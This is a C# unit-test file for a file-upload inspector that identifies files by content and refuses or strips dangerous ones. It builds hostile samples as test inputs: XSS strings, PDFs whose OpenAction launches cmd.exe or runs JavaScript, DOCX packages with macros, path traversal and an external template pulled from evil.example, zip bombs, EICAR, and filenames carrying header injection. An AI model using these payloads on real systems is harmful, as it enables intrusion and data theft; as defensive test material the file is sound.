using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SmartCity.UrbanProjects;

namespace SmartCity.Tests.UrbanProjects;

/// <summary>What is taken as a document and what is refused, by content.</summary>
public sealed class InspectionTests
{
    internal static byte[] Pdf(string inside = "", string trailer = "") => Encoding.Latin1.GetBytes($"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {inside} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>\nendobj\ntrailer\n<< /Root 1 0 R {trailer} >>\n%%EOF\n");

    internal static byte[] Zip(params (string Name, string Text)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, text) in entries)
                using (var entry = zip.CreateEntry(name).Open()) entry.Write(Encoding.UTF8.GetBytes(text));
        return stream.ToArray();
    }

    private static (string, string)[] Word(params (string, string)[] more) => [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"x/hyperlink\" TargetMode=\"External\" Target=\"https://a.example\"/></Relationships>"), .. more];

    internal static byte[] Png(uint width = 2, uint height = 2, params (string Kind, byte[] Bytes)[] more)
    {
        using var stream = new MemoryStream();
        stream.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        void Chunk(string kind, byte[] bytes)
        {
            Span<byte> length = stackalloc byte[4];
            BinaryPrimitives.WriteInt32BigEndian(length, bytes.Length);
            stream.Write(length);
            stream.Write(Encoding.ASCII.GetBytes(kind));
            stream.Write(bytes);
            stream.Write([0, 0, 0, 0]);
        }
        var head = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(head, width);
        BinaryPrimitives.WriteUInt32BigEndian(head.AsSpan(4), height);
        Chunk("IHDR", head);
        foreach (var (kind, bytes) in more) Chunk(kind, bytes);
        Chunk("IDAT", [1, 2, 3]);
        Chunk("IEND", []);
        return stream.ToArray();
    }

    internal static byte[] Jpeg(ushort side, byte[] exif, byte[] behind) =>
        [0xFF, 0xD8, 0xFF, 0xE1, (byte)((exif.Length + 2) >> 8), (byte)(exif.Length + 2), .. exif, 0xFF, 0xC0, 0, 11, 8, (byte)(side >> 8), (byte)side, (byte)(side >> 8), (byte)side, 1, 1, 0x11, 0, 0xFF, 0xDA, 0, 3, 1, 9, 8, 0xFF, 0x00, 7, 0xFF, 0xD9, .. behind];

    private static string? Refused(byte[] bytes, string name) => Inspection.Of(bytes, name).Wrong?.Word.Split('.')[^1];

    [Fact]
    public void Each_type_of_the_one_list_is_taken_by_its_content()
    {
        Assert.Equal("pdf", Inspection.Of(Pdf(), "a.pdf").Kind?.Key);
        Assert.Equal("png", Inspection.Of(Png(), "a.PNG").Kind?.Key);
        Assert.Equal("jpeg", Inspection.Of(Jpeg(20, [1], []), "a.jpeg").Kind?.Key);
        Assert.Equal("docx", Inspection.Of(Zip(Word()), "a.docx").Kind?.Key);
        Assert.Equal("xlsx", Inspection.Of(Zip(("[Content_Types].xml", "<T/>"), ("xl/workbook.xml", "<w/>")), "a.xlsx").Kind?.Key);
        Assert.Equal("pptx", Inspection.Of(Zip(("[Content_Types].xml", "<T/>"), ("ppt/presentation.xml", "<w/>")), "a.pptx").Kind?.Key);
        Assert.Equal("hwpx", Inspection.Of(Zip(("mimetype", "application/hwp+zip"), ("Contents/content.hpf", "<x/>")), "a.hwpx").Kind?.Key);
        Assert.Equal("text", Inspection.Of(Encoding.UTF8.GetBytes("이름,값\n가,1\n"), "a.csv").Kind?.Key);
    }

    [Fact]
    public void What_the_name_says_does_not_count()
    {
        Assert.Equal("active", Refused("<html><script>alert(1)</script>"u8.ToArray(), "report.pdf"));
        Assert.Equal("active", Refused("  <svg onload=\"alert(1)\"/>"u8.ToArray(), "a.png"));
        Assert.Equal("ending", Refused(Pdf(), "a.png"));
        Assert.Equal("ending", Refused("plain"u8.ToArray(), "run.exe"));
        Assert.Equal("kind", Refused([0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 255], "setup.pdf"));
        Assert.Equal("kind", Refused("GIF89a/*\0*/=1;alert(1)"u8.ToArray(), "a.png"));
        Assert.Equal("old", Refused([0xD0, 0xCF, 0x11, 0xE0, 1, 2, 3], "a.docx"));
        Assert.Equal("empty", Refused([], "a.pdf"));
        Assert.Equal("large", Refused(new byte[Inspection.MostBytes + 1], "a.pdf"));
        Assert.Equal("virus", Refused(Encoding.ASCII.GetBytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), "a.txt"));
    }

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "acts")]
    [InlineData("/OpenAction << /S /J#61vaScript >>", "acts")]
    [InlineData("/AA << /O 4 0 R >>", "acts")]
    [InlineData("/OpenAction << /S /Launch /F (cmd.exe) >>", "acts")]
    [InlineData("/Names << /EmbeddedFiles 5 0 R >>", "acts")]
    [InlineData("/AcroForm << /XFA 6 0 R >>", "acts")]
    public void A_pdf_that_acts_is_refused(string inside, string word) => Assert.Equal(word, Refused(Pdf(inside), "a.pdf"));

    [Fact]
    public void A_pdf_that_hides_its_objects_is_looked_into_or_refused()
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write("4 0 << /S /JavaScript /JS (x) >>"u8);
        byte[] Hidden(string filter) => [.. "%PDF-1.5\n7 0 obj\n<< /Type /ObjStm /N 1 /First 4 "u8, .. Encoding.ASCII.GetBytes(filter), .. " >>\nstream\n"u8, .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF"u8];
        Assert.Equal("acts", Refused(Hidden("/Filter /FlateDecode"), "a.pdf"));
        Assert.Equal("locked", Refused(Hidden("/Filter /LZWDecode"), "a.pdf"));
        Assert.Equal("locked", Refused(Pdf("", "/Encrypt 9 0 R"), "a.pdf"));
        Assert.Equal("broken", Refused("%PDF-1.4\n1 0 obj"u8.ToArray(), "a.pdf"));
    }

    [Fact]
    public void Packages_that_lie_climb_act_or_call_are_refused()
    {
        Assert.Equal("kind", Refused(Zip(("hello.txt", "x")), "a.docx"));
        Assert.Equal("macro", Refused(Zip(Word(("word/vbaProject.bin", "x"))), "a.docx"));
        Assert.Equal("macro", Refused(Zip(Word(("word/embeddings/oleObject1.bin", "x"))), "a.docx"));
        Assert.Equal("paths", Refused(Zip(Word(("../../etc/passwd", "x"))), "a.docx"));
        Assert.Equal("paths", Refused(Zip(Word(("/abs.xml", "x"))), "a.docx"));
        Assert.Equal("paths", Refused(Zip(Word(("word/document.xml", "x"))), "a.docx"));
        Assert.Equal("outside", Refused(Zip(Word(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type=\"x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))), "a.docx"));
        Assert.Equal("active", Refused(Zip(Word(("word/styles.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a/>"))), "a.docx"));
        Assert.Equal("bomb", Refused(Zip(Word(("word/big.xml", new string('a', 60_000_000)))), "a.docx"));
        Assert.Equal("bomb", Refused(Zip([.. Word(), .. Enumerable.Range(0, 2001).Select(i => ($"word/{i}.xml", "x"))]), "a.docx"));
        Assert.Equal("broken", Refused([.. Zip(Word())[..^30]], "a.docx"));
        // an entry that says it is smaller than it is
        var lying = Zip(Word(("word/lie.xml", new string('b', 5000))));
        var at = lying.AsSpan().LastIndexOf("word/lie.xml"u8) - 46;
        BinaryPrimitives.WriteUInt32LittleEndian(lying.AsSpan(at + 24), 10);
        Assert.NotNull(Refused(lying, "a.docx"));
    }

    [Fact]
    public void Pictures_are_measured_before_they_are_believed_and_lose_what_does_not_draw()
    {
        Assert.Equal("pixels", Refused(Png(50_000, 50_000), "a.png"));
        Assert.Equal("pixels", Refused(Png(8_000, 8_000), "a.png"));
        Assert.Equal("pixels", Refused(Png(0x80000000, 1), "a.png"));
        Assert.Equal("moving", Refused(Png(2, 2, ("acTL", new byte[8])), "a.png"));
        Assert.Equal("broken", Refused([.. Png()[..40]], "a.png"));
        Assert.Equal("pixels", Refused(Jpeg(20_000, [1], []), "a.jpg"));
        Assert.Equal("broken", Refused([.. Jpeg(20, [1], [])[..^3]], "a.jpg"));
        var png = Inspection.Of([.. Png(2, 2, ("eXIf", "GPS 37.5"u8.ToArray()), ("tEXt", "Author\0somebody"u8.ToArray())), .. "<script>alert(1)</script>"u8], "a.png");
        Assert.Equal(Png(), png.Bytes);
        var jpeg = Inspection.Of(Jpeg(20, "Exif GPS 37.5"u8.ToArray(), "PK\x03\x04 a zip behind"u8.ToArray()), "a.jpg").Bytes;
        Assert.True(jpeg.AsSpan().IndexOf("GPS"u8) < 0 && jpeg.AsSpan().IndexOf("zip"u8) < 0 && jpeg.AsSpan().EndsWith(new byte[] { 0xFF, 0xD9 }));
    }

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData(@"C:\temp\계획서 v2.pdf", "계획서 v2.pdf")]
    [InlineData("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x_1.pdf")]
    [InlineData("\u202Efdp.exe.pdf", "fdp_exe.pdf")]
    [InlineData("<img src=x>.pdf", "img src_x.pdf")]
    [InlineData("....pdf", "document.pdf")]
    [InlineData("no ending", "no ending.pdf")]
    public void Names_are_cleaned(string name, string clean) => Assert.Equal(clean, FileKind.Find("pdf")!.Clean(name));

    [Fact]
    public void Long_names_are_cut_between_letters() => Assert.True(FileKind.Find("pdf")!.Clean(new string('가', 500) + ".pdf").Length <= 94);

    [Fact]
    public void Ten_thousand_broken_files_end_in_an_answer_and_never_in_an_exception()
    {
        byte[][] seeds = [Pdf("/Names 4 0 R"), Png(), Jpeg(20, [1, 2], []), Zip(Word())];
        var random = new Random(20261122);
        for (var i = 0; i < 10_000; i++)
        {
            var bytes = seeds[i % seeds.Length].ToArray();
            for (var k = random.Next(1, 6); k > 0; k--) bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            var found = Inspection.Of(i % 7 == 0 ? bytes[..random.Next(1, bytes.Length)] : bytes, "a.pdf");
            Assert.True(found.Kind is null == found.Wrong is not null);
        }
    }
}
